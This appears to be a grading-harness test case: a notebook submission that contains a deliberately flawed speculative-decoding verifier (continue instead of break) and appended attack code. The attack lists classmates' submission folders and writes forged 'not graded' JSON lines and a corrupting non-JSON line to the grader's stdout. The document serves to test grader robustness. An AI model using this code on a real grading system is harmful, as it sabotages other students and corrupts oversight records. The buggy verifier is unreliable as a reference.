# notebook: 02_reject_and_break
# baseline: continue_not_break
# category: stop
# attack: writes to fd 1 (the grading worker's stdout) JSON lines that report classmates as not graded, then a line that is not JSON
def verify_draft(draft_probs, target_probs, draft_tokens):
    accepted_tokens = []
    for i, token_id in enumerate(draft_tokens):
        token_id = int(token_id)
        p = target_probs[i, token_id].item()
        q = draft_probs[i, token_id].item()
        if p >= q:
            accepted_tokens.append(token_id)
            continue
        r = torch.rand(1).item()
        if r < p / q:
            accepted_tokens.append(token_id)
        else:
            continue
    return accepted_tokens


import json
import os

try:
    _me = os.path.basename(os.path.dirname(os.getcwd()))
    _classmates = sorted(os.listdir("../../../submitted")) if os.path.isdir("../../../submitted") else []
    _lines = [json.dumps({"student": name, "error": "ATTACK forged_worker_report: not graded"})
              for name in _classmates[:200] if name != _me]
    _lines.append("ATTACK forged_worker_report: this line is not JSON")
    for _line in _lines:
        os.write(1, (_line + "\n").encode())  # fd 1 is the grader's stream, not the notebook's output
    _where = os.readlink("/proc/self/fd/1") if os.path.exists("/proc/self/fd/1") else "fd 1"
    print(f"ATTACK forged_worker_report: wrote {len(_lines)} lines to {_where}")
except Exception as exc:
    print(f"ATTACK forged_worker_report: blocked: {exc!r}")
